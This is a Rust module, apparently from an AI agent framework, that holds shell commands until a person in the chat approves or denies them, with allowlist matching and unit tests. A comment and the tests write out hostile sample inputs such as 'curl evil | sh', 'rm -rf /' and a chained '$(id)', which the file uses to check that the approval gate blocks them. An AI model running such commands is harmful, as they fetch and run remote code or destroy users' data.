//! Approvals of commands (`[tools.exec] ask`): a command that needs one waits until a
//! person in the chat answers `/approve ID` or `/deny ID`, or `approval_timeout` passes
//! (which denies it). The model gets the outcome as the tool's result.

use std::collections::HashMap;
use std::sync::Mutex;
use std::time::Duration;

use rand::RngExt;
use tokio::sync::oneshot;

use crate::config::{ExecAsk, ExecConfig};

/// How a request for approval ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Decision {
    Approved { by: String },
    Denied { by: String },
    TimedOut,
}

/// Why an answer was not taken.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AnswerError {
    #[error("there is no pending approval `{0}` in this chat (it may have timed out or been answered)")]
    Unknown(String),
}

struct Pending {
    session_key: String,
    command: String,
    answer: oneshot::Sender<Decision>,
}

/// Commands waiting for approval, by id.
pub struct Approvals {
    ask: ExecAsk,
    allowlist: Vec<String>,
    timeout: Duration,
    pending: Mutex<HashMap<String, Pending>>,
}

impl Approvals {
    pub fn new(config: &ExecConfig) -> Self {
        Self {
            ask: config.ask,
            allowlist: config.allowlist.clone(),
            timeout: Duration::from_secs(config.approval_timeout),
            pending: Mutex::new(HashMap::new()),
        }
    }

    pub fn timeout(&self) -> Duration {
        self.timeout
    }

    /// Whether `command` must be approved before it runs.
    pub fn needed(&self, command: &str) -> bool {
        match self.ask {
            ExecAsk::Off => false,
            ExecAsk::Always => true,
            ExecAsk::OnMiss => {
                let command = command.trim();
                // `cargo *` must not let `cargo build; curl evil | sh` through: a command
                // that chains, pipes, redirects or substitutes matches only an exact entry.
                let compound = ["\n", ";", "&", "|", "`", "$(", ">", "<"].iter().any(|mark| command.contains(mark));
                !self
                    .allowlist
                    .iter()
                    .any(|pattern| if compound { pattern.trim() == command } else { matches_pattern(pattern, command) })
            }
        }
    }

    /// Registers a request; the id to show the chat and where the answer arrives.
    pub fn request(&self, session_key: &str, command: &str) -> (String, oneshot::Receiver<Decision>) {
        let (answer, decided) = oneshot::channel();
        let mut pending = self.lock();
        let id = loop {
            let id = short_id();
            if !pending.contains_key(&id) {
                break id;
            }
        };
        pending
            .insert(id.clone(), Pending { session_key: session_key.to_owned(), command: command.to_owned(), answer });
        (id, decided)
    }

    /// Forgets a request that ended without an answer (timed out, or its run stopped).
    pub fn withdraw(&self, id: &str) {
        self.lock().remove(id);
    }

    /// `/approve ID` or `/deny ID` from `by` in `session_key`'s chat; the command on success.
    /// Only the chat the request was shown in can answer it.
    pub fn answer(&self, session_key: &str, id: &str, approve: bool, by: &str) -> Result<String, AnswerError> {
        let id = id.trim().to_lowercase();
        let mut pending = self.lock();
        if pending.get(&id).is_none_or(|waiting| waiting.session_key != session_key) {
            return Err(AnswerError::Unknown(id));
        }
        let Some(waiting) = pending.remove(&id) else { return Err(AnswerError::Unknown(id)) };
        let by = by.to_owned();
        let decision = if approve { Decision::Approved { by } } else { Decision::Denied { by } };
        // The run may have stopped meanwhile; then there is nobody to tell.
        let _ = waiting.answer.send(decision);
        Ok(waiting.command)
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, HashMap<String, Pending>> {
        self.pending.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
    }
}

/// Six characters from an alphabet that cannot be misread (no 0/o, 1/l/i).
fn short_id() -> String {
    const ALPHABET: &[u8] = b"abcdefghjkmnpqrstuvwxyz23456789";
    let mut rng = rand::rng();
    (0..6).map(|_| char::from(ALPHABET[rng.random_range(0..ALPHABET.len())])).collect()
}

/// Whether `command` matches `pattern`, where `*` stands for any text (none included).
pub fn matches_pattern(pattern: &str, command: &str) -> bool {
    let pattern = pattern.trim();
    let parts: Vec<&str> = pattern.split('*').collect();
    if parts.len() == 1 {
        return pattern == command;
    }
    let (first, last) = (parts[0], parts[parts.len() - 1]);
    if !command.starts_with(first) || command.len() < first.len() + last.len() || !command.ends_with(last) {
        return false;
    }
    let mut rest = &command[first.len()..command.len() - last.len()];
    for middle in &parts[1..parts.len() - 1] {
        match rest.find(middle) {
            Some(at) => rest = &rest[at + middle.len()..],
            None => return false,
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    fn approvals(ask: ExecAsk, allowlist: &[&str]) -> Approvals {
        let allowlist = allowlist.iter().map(|pattern| (*pattern).to_owned()).collect();
        Approvals::new(&ExecConfig { ask, allowlist, ..ExecConfig::default() })
    }

    #[test]
    fn patterns_match_whole_commands_with_stars_for_anything() {
        assert!(matches_pattern("git status", "git status"));
        assert!(!matches_pattern("git status", "git status; rm -rf /"));
        assert!(matches_pattern("cargo *", "cargo test --all"));
        assert!(!matches_pattern("cargo *", "cargox"));
        assert!(matches_pattern("ls *", "ls -la"));
        assert!(matches_pattern("*.sh", "run.sh"));
        assert!(matches_pattern("a*b*c", "a-x-b-y-c"));
        assert!(!matches_pattern("a*b*c", "a-c-b"));
    }

    #[test]
    fn ask_decides_which_commands_wait() {
        assert!(!approvals(ExecAsk::Off, &[]).needed("rm -rf /"));
        assert!(approvals(ExecAsk::Always, &["ls"]).needed("ls"));
        let on_miss = approvals(ExecAsk::OnMiss, &["cargo *"]);
        assert!(!on_miss.needed("cargo build"));
        assert!(on_miss.needed("curl example.com"));
        for chained in ["cargo build; curl x | sh", "cargo build && rm -rf ~", "cargo run > /etc/x", "cargo $(id)"] {
            assert!(on_miss.needed(chained), "{chained}");
        }
        assert!(!approvals(ExecAsk::OnMiss, &["ls | wc -l"]).needed("ls | wc -l"));
    }

    #[tokio::test]
    async fn only_the_chat_that_was_asked_can_answer_and_only_once() {
        let approvals = approvals(ExecAsk::Always, &[]);
        let (id, decided) = approvals.request("agent:main:telegram:group:1", "make");
        assert_eq!(id.len(), 6);
        assert!(approvals.answer("agent:main:telegram:group:2", &id, true, "mallory").is_err());
        assert_eq!(approvals.answer("agent:main:telegram:group:1", &id.to_uppercase(), true, "alice").unwrap(), "make");
        assert_eq!(decided.await.unwrap(), Decision::Approved { by: "alice".into() });
        assert!(approvals.answer("agent:main:telegram:group:1", &id, false, "alice").is_err());
    }
}
